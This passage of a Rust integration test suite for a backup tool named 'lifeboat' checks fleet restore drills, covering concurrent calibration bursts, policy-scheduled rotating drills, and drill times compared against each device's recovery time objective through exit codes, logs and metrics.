    let names = ["c1", "c2", "c3"];
    let mut roots = Vec::new();
    for (i, name) in names.iter().enumerate() {
        let data = machine(&mut fleet, name, 70 + i as u64, 8, 256 * 1024);
        fleet.backup(name, "data");
        roots.push(data.parent().expect("machine root").to_path_buf());
    }
    let before: Vec<_> = roots.iter().map(|r| manifest(r)).collect();
    let args = [
        "drill", "run", "--agent", "c1", "--agent", "c2", "--agent", "c3",
    ];
    let drills = fleet.cli_json(&args);
    let drills = drills.as_array().expect("drills");
    assert_eq!(drills.len(), 3);
    assert!(drills.iter().all(|d| d["state"] == "passed"), "{drills:?}");
    let bursts = |fleet: &Fleet| -> Vec<Value> {
        fleet
            .cli_json(&["jobs", "--limit", "100"])
            .as_array()
            .expect("jobs")
            .iter()
            .filter(|j| {
                j["kind"] == "restore"
                    && j["detail"]
                        .as_str()
                        .is_some_and(|d| d.starts_with("calibration burst of 3 devices"))
            })
            .cloned()
            .collect()
    };
    let burst = bursts(&fleet);
    let agents: std::collections::BTreeSet<&str> =
        burst.iter().filter_map(|j| j["agent"].as_str()).collect();
    assert_eq!(agents.len(), 3, "one restore per device: {burst:?}");
    assert!(burst.iter().all(|j| j["state"] == "succeeded"), "{burst:?}");
    // Their restores overlapped: each started before any other had finished.
    let latest_start = burst
        .iter()
        .filter_map(|j| j["started_unix_ms"].as_i64())
        .max();
    let earliest_end = burst
        .iter()
        .filter_map(|j| j["finished_unix_ms"].as_i64())
        .min();
    assert!(
        latest_start < earliest_end,
        "the burst ran one at a time: {burst:?}"
    );
    // What they moved together is the model's capacity (an egress sample).
    let db = rusqlite::Connection::open(fleet.path("ctl/catalog.db")).expect("catalog");
    let (kind, bytes, ms): (String, i64, i64) = db
        .query_row(
            "SELECT kind, bytes, data_ms FROM restore_samples WHERE job_id = 'calibration:3'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .expect("the burst's sample");
    assert_eq!(kind, "egress");
    assert!(
        bytes >= 3 * 8 * 256 * 1024 / 2 && ms > 0,
        "{bytes} bytes in {ms} ms"
    );
    // Nobody's drill, and the machines are as they were (sandboxes are the agent's own).
    assert_eq!(
        fleet.cli_json(&["drills"]).as_array().map(Vec::len),
        Some(3)
    );
    for (root, was) in roots.iter().zip(&before) {
        tree::assert_same(was, root);
    }
    // Within a week, the next drill run of as many devices runs no burst.
    let again = fleet.cli_json(&args);
    assert!(
        again
            .as_array()
            .expect("drills")
            .iter()
            .all(|d| d["state"] == "passed")
    );
    assert_eq!(bursts(&fleet).len(), 3, "a second burst within the week");
    eprintln!("calibration: 3 devices at once moved {bytes} bytes in {ms} ms");
}

/// A policy's `drill` drills its devices in rotation, each within the period.
#[test]
fn policies_schedule_drills_over_a_rotating_sample() {
    let mut fleet = Fleet::start();
    let tok = token(&fleet, 2, &["role=web"]);
    for name in ["w1", "w2"] {
        drillable(&mut fleet, name, &tok, 5, 2, 1000);
    }
    fleet.apply_policy("[[policy]]\nname = \"web\"\nselector = \"role=web\"\nsources = [\"data\"]\nschedule = \"0 0 1 1 *\"\n\
         drill = { every = \"4s\", sample = 1, probe = \"test -s f001\" }\n",
    );
    let drills = wait_for(
        "both devices drilled by the policy",
        Duration::from_secs(60),
        || {
            let d = fleet.cli_json(&["drills"]);
            let done: Vec<Value> = d
                .as_array()?
                .iter()
                .filter(|x| x["policy"] == "web" && x["state"] == "passed")
                .cloned()
                .collect();
            let agents: std::collections::BTreeSet<&str> =
                done.iter().filter_map(|x| x["agent"].as_str()).collect();
            (agents.len() == 2).then(|| done.clone())
        },
    );
    // One device per round: the first two rounds drilled different devices.
    let mut firsts: Vec<(&str, &str)> = drills
        .iter()
        .map(|d| {
            (
                d["started"].as_str().unwrap_or(""),
                d["agent"].as_str().unwrap_or(""),
            )
        })
        .collect();
    firsts.sort();
    assert_ne!(
        firsts[0].1, firsts[1].1,
        "the rotation drilled one device twice first: {firsts:?}"
    );
    assert!(drills.iter().all(|d| d["probe"] == "test -s f001"));
}

/// The item of a JSON listing whose `agent` is `agent`.
fn by_agent(list: &Value, agent: &str) -> Value {
    list.as_array()
        .and_then(|l| l.iter().find(|d| d["agent"] == agent))
        .cloned()
        .unwrap_or_else(|| panic!("no {agent} in {list}"))
}

/// A17: every drill is checked against its device's recovery time objective (the shortest
/// `rto` of the policies that select it), and so is the device's estimated downtime. A
/// drill that restores fine but slower than the RTO is named (exit 3, log, metric, the
/// listing's RTO column); the devices view shows each device's RTO and last drill.
#[test]
fn a17_drills_and_estimates_are_checked_against_each_devices_rto() {
    let mut fleet = Fleet::start();
    for (name, role, seed) in [("web1", "role=web", 21), ("db1", "role=db", 22)] {
        let tok = token(&fleet, 1, &[role]);
        drillable(&mut fleet, name, &tok, seed, 5, 2000);
    }
    // An RTO of nothing is refused, naming the key.
    let bad = fleet.path("bad-rto.toml");
    fs::write(
        &bad,
        "[[policy]]\nname = \"x\"\nsources = [\"data\"]\nschedule = \"0 0 1 1 *\"\nrto = \"0s\"\n",
    )
    .expect("write");
    let out = fleet.cli(&["policy", "apply", "-f", bad.to_str().expect("path")]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("rto must be at least 1s"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // web1: min(1h, 2h) = 1h; db1: min(1s, 2h) = 1s.
    fleet.apply_policy(
        "[[policy]]\nname = \"all\"\nsources = [\"data\"]\nschedule = \"0 0 1 1 *\"\nrto = \"2h\"\n\n\
         [[policy]]\nname = \"web\"\nselector = \"role=web\"\nsources = [\"data\"]\nschedule = \"0 0 1 1 *\"\nrto = \"1h\"\n\n\
         [[policy]]\nname = \"db\"\nselector = \"role=db\"\nsources = [\"data\"]\nschedule = \"0 0 1 1 *\"\nrto = \"1s\"\n",
    );
    let before = fleet.cli_json(&["devices"]);
    for d in before.as_array().expect("devices") {
        assert_eq!(d["last_drill"], Value::Null, "{d}");
    }

    // Each drill's probe sleeps 2 s: db1's drill cannot meet its 1 s RTO, web1's 1 h holds.
    let out = fleet.cli(&[
        "drill",
        "run",
        "--agent",
        "web1",
        "--agent",
        "db1",
        "--probe",
        "sleep 2 && test -s f001",
        "--json",
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(3),
        "every drill passed, one over its RTO: exit 3\n{stderr}"
    );
    assert!(stderr.contains("DRILL OVER RTO: db1 data"), "{stderr}");
    assert!(!stderr.contains("web1"), "{stderr}");
    let drills: Value = serde_json::from_slice(&out.stdout).expect("json");
    let (web, db) = (by_agent(&drills, "web1"), by_agent(&drills, "db1"));
    assert_eq!(web["state"], "passed", "{web}");
    assert_eq!(db["state"], "passed", "{db}");
    assert_eq!(web["rto_ms"], 3_600_000);
    assert_eq!(db["rto_ms"], 1000);
    assert_eq!(web["over_rto"], false);
    assert_eq!(db["over_rto"], true);
    assert!(db["actual_ms"].as_u64().expect("actual") > 2000, "{db}");
    // Listed with the verdict, logged, counted.
    let out = fleet.cli(&["drills"]);
    assert_eq!(out.status.code(), Some(3));
    let table = String::from_utf8_lossy(&out.stdout);
    let row = |agent: &str| {
        table
            .lines()
            // The device's own column (a snapshot id may hold its name in hex).
            .find(|l| l.contains(&format!(" {agent} ")))
            .unwrap_or_default()
            .to_string()
    };
    assert!(row("db1").contains("1.0 s EXCEEDED"), "{table}");
    assert!(
        row("web1").contains("1h") && !row("web1").contains("EXCEEDED"),
        "{table}"
    );
    assert!(fleet.controller_log().contains("DRILL OVER RTO"));
    let metrics = lifeboat_tests::metrics(&fleet);
    for line in [
        "lifeboat_drills_over_rto_total 1",
        "lifeboat_device_rto_seconds{agent=\"db1\"} 1",
        "lifeboat_device_rto_seconds{agent=\"web1\"} 3600",
    ] {
        assert!(metrics.contains(line), "{line} missing:\n{metrics}");
    }
    assert!(
        !metrics.contains("lifeboat_device_last_passed_drill_timestamp_seconds{agent=\"db1\"} 0"),
        "{metrics}"
    );

    // The devices view: each device's RTO against its estimated downtime (which now counts
    // the drill's 2 s probe), and its last drill.
    let devices = fleet.cli_json(&["devices"]);
    let (web, db) = (by_agent(&devices, "web1"), by_agent(&devices, "db1"));
    assert_eq!(web["rto_seconds"], 3600);
    assert_eq!(db["rto_seconds"], 1);
    assert!(
        db["restore_estimate_seconds"].as_f64().expect("estimate") > 1.0,
        "{db}"
    );
    assert_eq!(db["estimate_over_rto"], true, "{db}");
    assert_eq!(web["estimate_over_rto"], false, "{web}");
    for d in [&web, &db] {
        assert_eq!(d["last_drill_state"], "passed", "{d}");
        assert!(
            d["last_drill"].is_string() && d["last_passed_drill"].is_string(),
            "{d}"
        );
    }
    let out = fleet.cli(&["devices"]);
    let table = String::from_utf8_lossy(&out.stdout);
    let db_row = table
        .lines()
        .find(|l| l.contains(" db1 "))
        .unwrap_or_default();
    assert!(
        db_row.contains("1s EXCEEDED") && db_row.contains("passed"),
        "{table}"
    );
}
